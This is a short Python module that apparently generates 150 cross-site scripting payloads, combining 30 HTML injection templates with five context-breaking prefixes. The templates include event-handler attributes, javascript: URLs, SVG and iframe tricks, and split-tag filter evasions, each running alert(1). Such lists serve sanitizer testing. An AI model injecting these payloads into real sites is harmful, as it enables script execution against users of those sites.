"""A hundred and fifty texts that would run as a script where they were taken for markup."""

# What runs, each on its own; `{}` is the script.
_ELEMENTS = (
    "<script>{}</script>",
    "<scr<script>ipt>{}</scr</script>ipt>",
    "<ScRiPt src=data:text/javascript,{}></sCrIpT>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}>",
    "<image src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:{}><text x=20 y=20>x</text></a>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={}>#x'/></svg>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src=x onerror={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<form action=javascript:{}><button autofocus onfocus={}>x</button></form>",
    "<math href=javascript:{}>x</math>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/ onload={}>",
    "<style>@import '//evil.example/';</style><x style=animation:x onanimationstart={}>",
    "<template><script>{}</script></template><slot onslotchange={}></slot>",
    "<table background=javascript:{}><td onmouseover={}>x",
    "<marquee onstart={}>x</marquee>",
)
# How it would get there: as it is, or out of what it stands in.
_AROUND = ("{}", "\"'>{}", "</title></textarea></style></script>{}", "<!--><p title='-->{}'>", "<math><mtext></form>{}")
PAYLOADS = tuple(around.replace("{}", element.replace("{}", "alert(1)")) for around in _AROUND for element in _ELEMENTS)
